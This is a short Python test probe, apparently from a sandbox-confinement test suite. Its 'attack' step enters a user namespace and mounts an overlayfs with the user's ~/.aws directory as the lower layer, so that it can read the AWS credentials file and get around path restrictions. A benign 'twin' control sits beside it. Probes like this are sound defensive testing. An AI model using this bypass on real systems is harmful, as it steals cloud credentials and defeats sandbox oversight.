"""P24: mounts an overlay whose lower layer holds the secret"""
from kit import *


def overlaid(w):
    become_root_of_a_namespace()
    for name in ("up", "tmp", "merged"):
        os.makedirs(w.work / name, exist_ok=True)
    base = w.work / "ov"
    os.makedirs(base, exist_ok=True)
    syscall("mount", memory("tmpfs"), memory(base), memory("tmpfs"), 0, 0)
    for name in ("up", "tmp", "merged"):
        os.makedirs(base / name)
    options = f"lowerdir={w.home}/.aws,upperdir={base}/up,workdir={base}/tmp"
    try:
        syscall("mount", memory("overlay"), memory(base / "merged"), memory("overlay"), 0, memory(options))
    except OSError as why:
        if why.errno == errno.ENODEV:
            raise NotHere("no overlayfs in this kernel") from why
        raise
    return read(base / "merged/credentials")


def attack(w):
    yield "overlay, then open", lambda: overlaid(w)


def twin(w):
    yield "read the mounts", lambda: read("/proc/self/mountinfo")
    yield "read data of the workspace", lambda: read(w.work / "data.csv")
